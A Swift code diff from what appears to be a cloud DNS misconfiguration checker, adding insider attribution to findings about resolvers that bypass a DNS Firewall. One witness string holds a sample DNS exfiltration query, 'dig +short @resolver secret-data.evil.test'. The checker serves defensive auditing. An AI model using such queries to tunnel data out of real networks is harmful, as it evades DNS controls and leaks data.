@@ -55,7 +55,7 @@ struct OtherResolverRoute: Route {
       return .open(
         "\(options.id)",
         RouteWitness(
-          "dig +short @\(first) secret-data.evil.test",
+          "dig +short @\(first) secret-data.evil.test", by: .insider("the resolver at \(first)"),
           story:
             "Every machine of \(network.resource.id) asks \(first) for names; the DNS Firewall is not asked.",
           fix: "set DomainNameServers to AmazonProvidedDNS", at: options, "DomainNameServers"))
@@ -85,7 +85,7 @@ struct OtherResolverRoute: Route {
       return .open(
         "\(rule.id)",
         RouteWitness(
-          "dig +short \(asked)",
+          "dig +short \(asked)", by: .insider("forwarding rule \(rule.id)"),
           story: "The resolver forwards questions for \(domain) to \(outside), an address of the internet.",
           fix: "delete the association of \(rule.id)", at: rule, "TargetIps"))
     }
